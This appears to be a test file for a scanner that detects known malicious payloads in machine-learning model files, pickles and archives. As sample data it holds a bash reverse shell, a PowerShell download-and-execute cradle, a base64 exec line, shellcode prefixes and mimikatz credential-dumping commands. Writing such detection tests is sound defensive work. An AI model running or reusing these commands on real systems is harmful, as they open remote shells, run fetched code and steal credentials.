"""Known payloads: each pattern finds what it stands for, and not what comes close to it."""

from __future__ import annotations

import io
import os
import pickle
import re
import zipfile
from pathlib import Path

import pytest

import weighbridge
from builders import pickles
from weighbridge.budget import Budget, Limits
from weighbridge.facts.codec import decode, encode
from weighbridge.facts.patterns import PatternMatch
from weighbridge.findings.model import ScanReport, Verdict
from weighbridge.formats import patterns
from weighbridge.formats.examine import examine
from weighbridge.sources.memory import BytesSource
from weighbridge.tables.effects import effect as effect_row

yara_x = pytest.importorskip("yara_x", reason="it does the searching")

FOLDER = Path(weighbridge.__file__).parent / "tables" / "patterns"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HERE = "192.0.2.1"  # An address of nobody (RFC 5737).
SAMPLES = {
    "eicar-test-file": (EICAR, EICAR.replace(b"EICAR-", b"EICAR ")),
    "metasploit-windows-x64": (
        bytes.fromhex("fc4883e4f0e8c0000000415141505251564831d265488b5260"),
        bytes.fromhex("fc4883e4f0e8c0000000415141505251564831d265488b5218"),
    ),
    "metasploit-windows-x86": (
        bytes.fromhex("fce8820000006089e531c0648b50308b520c8b5214"),
        bytes.fromhex("fce8820000006089e531c0648b50188b520c8b5214"),
    ),
    "shellcode-linux-shell": (
        bytes.fromhex("6a3b589948bb2f62696e2f7368005348 89e7".replace(" ", "")),
        b"\x90\x90/bin/sh\0/bin//sh",
    ),
    "stager-linux-reverse-tcp": (
        bytes.fromhex("31ff6a095899b6104889d64d31c96a22415a"),
        bytes.fromhex("31ff6a095899b6104889d64d31c96a22415b"),
    ),
    "cobalt-strike-beacon": (
        bytes.fromhex("2e2f2e2f2e2c00002e2c2e2f2e2c00002e2d"),
        bytes.fromhex("2e2f2e2f2e2c00002e2c2e2f2e2c00002e2e"),
    ),
    "reverse-shell-text": (
        f"bash -i >& /dev/tcp/{HERE}/4444 0>&1".encode(),
        b"exec 3<>/dev/tcp/time.example.org/13; import socket, subprocess, os",
    ),
    "powershell-cradle": (
        f"IEX (New-Object Net.WebClient).DownloadString('http://{HERE}/a.ps1')".encode(),
        b"powershell -NoProfile -File build.ps1; (New-Object Net.WebClient).DownloadFile($u, $f)",
    ),
    "python-packed-code": (
        b"exec(__import__('base64').b64decode('cGFzcw=='))",
        b"weights = base64.b64decode(text); exec(compile(source, name, 'exec'))",
    ),
    "monero-miner": (b"donate.v2.xmrig.com", b"stratum+tcp://pool.example.org randomx"),
    "mimikatz": (b"gentilkiwi ... sekurlsa::logonpasswords", b"sekurlsa::logonpasswords"),
    "sliver-implant": (
        b"github.com/bishopfox/sliver/implant/sliver/transports sliverpb.Register",
        b"github.com/bishopfox/sliver",
    ),
}  # fmt: skip


def matches(data: bytes, **limits: bool) -> list[PatternMatch]:
    facts = examine(BytesSource(data), Budget(Limits(**limits)), "x.bin")
    assert [decode(encode(fact)) for fact in facts] == facts
    return [fact for fact in facts if isinstance(fact, PatternMatch)]


def surrounded(data: bytes) -> bytes:
    """Put bytes among others that are no format."""
    return b"\xf7\x80\x01\x00" * 100 + data + b"\x00\x01\x80\xf7" * 100


def test_every_pattern_has_a_sample_and_says_where_it_comes_from() -> None:
    text = "".join(file.read_text() for file in FOLDER.glob("*.yar"))
    names = [name.replace("_", "-") for name in re.findall(r"^rule (\w+)", text, re.M)]
    assert names == list(SAMPLES)
    for key in ("description", "source", "effect"):
        assert text.count(f"{key} = ") == len(names)
    for effect in re.findall(r'effect = "(\w+)"', text):
        assert effect_row(effect)


@pytest.mark.parametrize("name", SAMPLES)
def test_a_pattern_finds_what_it_stands_for_and_nothing_near(name: str) -> None:
    payload, near = SAMPLES[name]
    assert [(one.pattern, one.offset) for one in matches(surrounded(payload))] == [(name, 400)]
    assert matches(surrounded(near)) == []


def test_what_lies_across_two_windows_is_found_once() -> None:
    border = patterns.WINDOW - 10
    found = matches(b"\xf7\0" * (border // 2) + EICAR + b"\xf7\0" * 500 + EICAR, deep=True)
    assert [(one.pattern, one.offset) for one in found] == [("eicar-test-file", border)]


def test_of_unknown_bytes_the_first_are_searched_unless_the_scan_is_deep() -> None:
    data = b"\xf7\0" * (patterns.UNKNOWN_BYTES // 2) + EICAR
    assert matches(data) == []
    assert len(matches(data, deep=True)) == 1


def test_noise_has_none() -> None:
    assert matches(b"\xf7" + os.urandom(8 << 20)) == []


def safetensors(tensor: bytes) -> bytes:
    header = b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(tensor), len(tensor))
    return len(header).to_bytes(8, "little") + header + tensor


def scan(folder: Path, data: bytes, name: str, *, deep: bool) -> ScanReport:
    (folder / name).write_bytes(data)
    return weighbridge.scan(folder / name, deep=deep)


def test_tensors_are_searched_only_when_a_scan_is_deep(tmp_path: Path) -> None:
    data = safetensors(surrounded(EICAR))
    assert scan(tmp_path, data, "model.safetensors", deep=False).verdict is Verdict.CLEAN
    report = scan(tmp_path, data, "model.safetensors", deep=True)
    assert report.verdict is Verdict.MALICIOUS
    assert [finding.rule for finding in report.findings] == ["known-payload"]
    assert report.findings[0].offset == data.index(EICAR)


def test_texts_that_speak_of_payloads_are_texts(tmp_path: Path) -> None:
    text = b"| attack | example |\n" + SAMPLES["reverse-shell-text"][0] + b"\n" + EICAR
    assert scan(tmp_path, text, "README.md", deep=True).verdict is Verdict.CLEAN


def test_a_program_is_searched_in_every_scan(tmp_path: Path) -> None:
    program = Path("/proc/self/exe").resolve().read_bytes()[:4096]
    report = scan(tmp_path, program + SAMPLES["monero-miner"][0], "helper", deep=False)
    assert {finding.rule for finding in report.findings} == {"native-code", "known-payload"}


def test_members_that_are_compressed_are_searched_when_inflated(tmp_path: Path) -> None:
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("model.safetensors", safetensors(surrounded(EICAR) + bytes(9000)))
        report = scan(tmp_path, file.getvalue(), "model.zip", deep=True)
    assert [finding.rule for finding in report.findings] == ["known-payload"]
    assert report.findings[0].member == "model.safetensors"


def test_without_the_library_a_deep_scan_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(patterns, "_rules", lambda: None)
    facts = examine(BytesSource(safetensors(bytes(8))), Budget(Limits(deep=True)), "x.bin")
    assert "patterns-missing" in [getattr(fact, "code", "") for fact in facts]


def test_a_payload_that_a_pickle_runs_is_told_once(tmp_path: Path) -> None:
    text = "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"
    runs = pickles.proto(4) + pickles.call("builtins", "exec", text) + pickles.STOP
    found = scan(tmp_path, runs, "runs.pkl", deep=True).findings
    assert [one.rule for one in found] == ["dangerous-call"]
    held = pickle.dumps({"note": text})
    found = scan(tmp_path, held, "held.pkl", deep=True).findings
    assert [one.rule for one in found] == ["known-payload"]
